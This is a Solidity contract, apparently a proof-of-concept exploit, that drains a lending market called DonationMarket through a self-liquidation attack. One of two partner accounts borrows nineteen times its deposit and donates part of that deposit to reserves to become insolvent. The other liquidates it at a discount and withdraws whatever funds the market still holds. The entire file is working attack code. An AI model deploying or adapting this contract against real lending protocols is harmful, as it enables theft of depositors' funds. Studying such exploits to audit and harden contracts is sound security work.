// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {DonationMarket} from "./DonationMarket.sol";

/// @notice One of two accounts of the same owner: the partner ruins itself by a gift, the other liquidates it at a discount.
contract SelfLiquidation {
    using SafeERC20 for IERC20;

    DonationMarket public immutable MARKET;
    SelfLiquidation public immutable PARTNER;

    constructor(DonationMarket market, SelfLiquidation partner) {
        (MARKET, PARTNER) = (market, partner);
    }

    /// @notice With all of the asset that lies here: comes out with more, as far as the market has it.
    function drain(IERC20 asset) external {
        asset.safeTransfer(address(PARTNER), asset.balanceOf(address(this)));
        PARTNER.ruin(asset);
        MARKET.liquidate(asset, address(PARTNER));

        // Rounded up, so that what stays covers the debt.
        uint256 stays = Math.ceilDiv(MARKET.debtOf(asset, address(this)) * 100, 95);
        uint256 free = MARKET.depositOf(asset, address(this)) - stays;
        MARKET.withdraw(asset, Math.min(free, asset.balanceOf(address(MARKET))));
    }

    /// @notice Borrows nineteen times its own money against itself and gives a quarter of the deposit away.
    function ruin(IERC20 asset) external {
        uint256 own = asset.balanceOf(address(this));
        asset.forceApprove(address(MARKET), own);
        MARKET.deposit(asset, own);
        MARKET.mint(asset, own * 19);
        MARKET.donateToReserves(asset, own * 5);
    }
}
